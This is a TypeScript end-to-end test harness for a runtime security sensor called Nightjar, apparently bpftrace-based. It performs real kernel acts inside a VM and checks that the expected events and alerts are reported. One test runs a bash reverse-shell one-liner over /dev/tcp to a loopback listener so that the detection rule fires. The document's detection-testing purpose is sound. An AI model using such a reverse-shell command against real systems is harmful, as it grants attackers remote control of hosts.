/**
 * The end-to-end core, inside a virtual machine: the product as its user starts it, real acts, and what it told of them.
 * Writes what it found to stdout, one JSON object a line: see Finding in ../findings.ts.
 */
import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { release } from 'node:os'
import { createInterface } from 'node:readline'
import type { Alert } from '../../../sensor/alert.ts'
import type { Event } from '../../../sensor/event.ts'
import type { Finding, Step } from '../findings.ts'
import { kernelActs, place } from './acts.ts'
import { matches } from './matching.ts'

/** Milliseconds. Emulated, everything takes ten to thirty times as long. */
const patience = 1_500_000
const eventWithin = 60_000
const lateWithin = 10_000
/** How often the sensor is started if Node is ended by a signal of its own: emulated, what V8 compiled is wrong at times. */
const starts = 3

const say = (finding: Finding) => process.stdout.write(`${JSON.stringify(finding)}\n`)
const seconds = (since: number) => Math.round((performance.now() - since) / 100) / 10

interface Sensor<T> {
  child: ChildProcess
  all: T[]
  first(meant: (one: T) => boolean, within?: number): Promise<T | undefined>
  log: string[]
  /** How it ended, though nobody asked it to; undefined while it runs. */
  ended(): string | undefined
  stop(): Promise<void>
}

/** What the chart gives to the sensor's container, and no more. */
const asInPod = ['setpriv', '--bounding-set=-all,+bpf,+perfmon']
const paranoid = '/proc/sys/kernel/perf_event_paranoid'

/** Ended by a signal that nobody sent: of Node, not of Nightjar. */
class Died extends Error {}

async function start<T>(step: Step, args: string[], text: string): Promise<Sensor<T>> {
  for (let tries = 1; ; tries++) {
    try {
      return await startOnce(step === 'pod' ? asInPod : [], args, text)
    } catch (problem) {
      if (!(problem instanceof Died) || tries === starts) throw problem
      say({ step, died: problem.message })
    }
  }
}

/** Resolves when the line of its log that holds `text` has come; rejects with how it ended, and its last words. */
async function startOnce<T>(wrap: string[], args: string[], text: string): Promise<Sensor<T>> {
  writeFileSync('/tmp/config.yaml', 'probe: { startTimeout: 25m }\nexporters: { spool: { directory: /tmp/spool } }\n')
  const [command = '', ...rest] = [...wrap, process.execPath, 'sensor/main.ts', ...args, '--config', '/tmp/config.yaml']
  const child = spawn(command, rest, {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, NIGHTJAR_LOG_LEVEL: 'debug' },
  })
  const all: T[] = []
  const log: string[] = []
  const waiting = new Set<() => void>()
  createInterface(child.stdout).on('line', (line) => {
    all.push(JSON.parse(line))
    for (const look of waiting) look()
  })
  let end: string | undefined
  const ended = new Promise<void>((resolve) =>
    child.once('close', (code, signal) => {
      end = signal ?? `exit code ${code}`
      resolve()
    }),
  )
  await new Promise<void>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`not attached in ${patience / 1000} s`)), patience)
    createInterface(child.stderr).on('line', (line) => {
      log.push(line)
      process.stderr.write(`${line.slice(0, 2000)}\n`)
      if (line.includes(text)) resolve()
    })
    ended.then(() => {
      clearTimeout(timer)
      const words = `${end}: ${log.slice(-15).join(' | ').slice(0, 4000)}`
      reject(child.signalCode === null ? new Error(words) : new Died(words))
    })
  }).catch((problem) => {
    child.kill('SIGKILL')
    throw problem
  })
  return {
    child,
    all,
    log,
    ended: () => end,
    first: (meant, within = eventWithin) =>
      new Promise((resolve) => {
        const look = () => {
          const found = all.find(meant)
          if (found === undefined) return
          clearTimeout(timer)
          waiting.delete(look)
          resolve(found)
        }
        const timer = setTimeout(() => {
          waiting.delete(look)
          resolve(undefined)
        }, within)
        waiting.add(look)
        look()
      }),
    async stop() {
      child.kill('SIGTERM')
      await ended
    },
  }
}

async function acting(command: readonly string[]): Promise<{ pid: number; printed: string }> {
  const [program = '', ...args] = command
  const child = spawn(program, args, { cwd: place, stdio: ['ignore', 'pipe', 'inherit'] })
  let printed = ''
  child.stdout.setEncoding('utf8').on('data', (text: string) => {
    printed += text
  })
  await new Promise<void>((resolve, reject) => {
    child.once('error', reject)
    child.once('close', () => resolve())
  })
  return { pid: child.pid ?? 0, printed }
}

/** A reverse shell over loopback: whether its alert came, and what it said. */
async function reverseShell(sensor: Sensor<Alert>): Promise<string | undefined> {
  const server = createServer((connection) => connection.end('exit\n'))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  await acting(['bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`])
  const alert = await sensor.first(
    ({ rule, process }) => rule.id === 'reverse-shell' && process?.stdin?.peer?.port === port,
  )
  server.close()
  if (alert) return undefined
  const end = sensor.ended()
  return `${end ? `the sensor ended: ${end}; ` : ''}no alert; came: ${JSON.stringify(sensor.all.map(({ rule }) => rule.id))}`
}

async function rules(step: 'first' | 'pod' | 'all', args: string[]) {
  const since = performance.now()
  try {
    const sensor = await start<Alert>(
      step,
      ['run', '--output', 'json', '--metrics', '127.0.0.1:9464', ...args],
      '"watching"',
    )
    say({ step, attached: seconds(since) })
    const problem = await reverseShell(sensor)
    const metrics = await (await fetch('http://127.0.0.1:9464/metrics')).text()
    const [build] = metrics.match(/^nightjar_build_info.*$/m) ?? []
    say({ step, alert: problem ?? true, ...(build !== undefined && { build }) })
    await sensor.stop()
  } catch (error) {
    say({ step, failed: String(error) })
  }
}

/**
 * With the two capabilities of the chart. Debian's kernels refuse all probes then, unless the node allows it: that must be said
 * before bpftrace is started.
 */
async function inPod(args: string[]) {
  const level = readFileSync(paranoid, 'utf8')
  const { stdout } = spawnSync(asInPod[0] ?? '', [...asInPod.slice(1), process.execPath, 'sensor/main.ts', 'doctor'], {
    encoding: 'utf8',
  })
  const isSaid = /^MISS {2}perf events +kernel.perf_event_paranoid \d, and no CAP_SYS_ADMIN/m.test(stdout)
  say({
    step: 'act',
    family: 'pod',
    name: `perf_event_paranoid ${level.trim()}`,
    ok: isSaid,
    ...(!isSaid && { why: stdout }),
  })
  writeFileSync(paranoid, '2')
  await rules('pod', args)
  writeFileSync(paranoid, level)
}

/** Types of events that are asked for together: a compiler that is emulated takes minutes for each of these. */
const groups = {
  files: ['open', 'chmod', 'chown', 'link', 'rename', 'unlink', 'mkdir'],
  network: ['connect', 'dns', 'listen', 'accept', 'socket', 'stdio'],
  privilege: ['ptrace', 'namespace', 'mount', 'credentials', 'kill'],
  kernel: ['module', 'bpf', 'memfd', 'io_uring', 'syscall'],
} as const
type Group = keyof typeof groups

function isOlderThan([major, minor]: readonly [number, number]): boolean {
  const [ownMajor = 0, ownMinor = 0] = release().split('.').map(Number.parseFloat)
  return ownMajor < major || (ownMajor === major && ownMinor < minor)
}

/**
 * What came together while it attached is judged first, so that nothing of the acts is shed: an emulated node is slow. Opens
 * are what is shed first, so that these are looked at, if they are asked for. Goes on in any case: what is shed is a gap.
 */
async function settle(sensor: Sensor<Event>, opens: boolean) {
  for (let quiet = 0, round = 0; quiet < 5 && round < 60; round++) {
    const { pid } = await acting(['/opt/nightjar/bin/acts', 'read', 'kept/secret'])
    const isOwn = ({ process }: Event) => process?.pid === pid
    const last = await sensor.first((event) => event.type === 'exit' && isOwn(event))
    const told = !opens || sensor.all.some((event) => event.type === 'open' && isOwn(event))
    quiet = last && told ? quiet + 1 : 0
  }
}

async function families(group: Group) {
  const types: readonly string[] = ['exec', 'exit', 'gap', ...groups[group]]
  const since = performance.now()
  const sensor = await start<Event>(group, ['events', '--type', types.join()], 'kernel probes attached').catch(
    (error) => {
      say({ step: group, failed: String(error) })
    },
  )
  if (!sensor) return
  say({ step: group, attached: seconds(since) })
  await settle(sensor, types.includes('open'))
  for (const act of kernelActs.filter((one) => types.includes(one.family))) {
    const { family, name, command, since: first, machine, told } = act
    // Of every process, so that once is enough.
    if (group !== 'files' && (family === 'exec' || family === 'exit')) continue
    if (first && isOlderThan(first)) continue
    if (machine && machine !== process.arch) continue
    const number = sensor.child.pid ?? 0
    const { pid, printed } = await acting(command.map((word) => (word === 'SENSOR' ? String(number) : word)))
    const last = await sensor.first(({ type, process }) => type === 'exit' && process?.pid === pid)
    const ownSoFar = () => sensor.all.filter(({ type, process }) => type === family && process?.pid === pid)
    const expected = told({ printed: printed.trim(), sensor: number })
    // In their order; what else the program did in this family (its loader's opens, say) doesn't matter.
    const toldSoFar = () => {
      let at = 0
      for (const event of ownSoFar()) if (at < expected.length && matches(event, expected[at])) at++
      return at
    }
    // bpftrace 0.17 reads one processor's buffer after the other: emulated, the exit may be told before what came before it.
    await sensor.first(() => toldSoFar() === expected.length, lateWithin)
    const [own, at] = [ownSoFar(), toldSoFar()]
    const ok = last !== undefined && at === expected.length
    const found = own.map(({ process, host: _, identity: __, ...rest }) => ({ ...rest, by: process?.command_line }))
    const end = sensor.ended()
    const why = `${end ? `the sensor ended: ${end}; ` : ''}${last ? '' : 'no exit seen; '}expected ${JSON.stringify(expected[at])}; told: ${JSON.stringify(found)}`
    say({ step: 'act', family, name, ok, ...(!ok && { why: why.slice(0, 3000) }) })
  }
  for (const { gap } of sensor.all.filter(({ type }) => type === 'gap')) say({ step: group, gap: JSON.stringify(gap) })
  const omissions = sensor.log.filter((line) => line.includes('going on without it'))
  for (const line of omissions)
    say({ step: group, omitted: String(JSON.parse(line).left_out), why: line.slice(0, 3000) })
  await sensor.stop()
}

function prepare() {
  mkdirSync(`${place}/kept`, { recursive: true })
  symlinkSync('kept', `${place}/way`)
  symlinkSync(`${place}/kept/new`, `${place}/link`)
  symlinkSync('/opt/nightjar/bin/acts', `${place}/program`)
  writeFileSync(`${place}/kept/secret`, 'secret')
  mkdirSync(`${place}/kept/new`)
}

const [, bpftrace = 'none'] =
  /v(\d+\.\d+\.\d+)/.exec(execFileSync('bpftrace', ['--version'], { encoding: 'utf8' })) ?? []
say({ step: 'booted', kernel: release(), bpftrace })
prepare()
// Those that the command line of the machine names, or all.
const [, asked] = /\bnightjar\.steps=(\S+)/.exec(readFileSync('/proc/cmdline', 'utf8')) ?? []
const isAsked = (step: string) => asked === undefined || asked.split(',').includes(step)
const first = ['--no-builtin-rules', '--rules', 'rules/packs/nightjar.json']
if (isAsked('first')) await rules('first', first)
if (isAsked('pod')) await inPod(first)
for (const group of Object.keys(groups) as Group[]) if (isAsked(group)) await families(group)
if (isAsked('all')) await rules('all', [])
say({ step: 'done' })
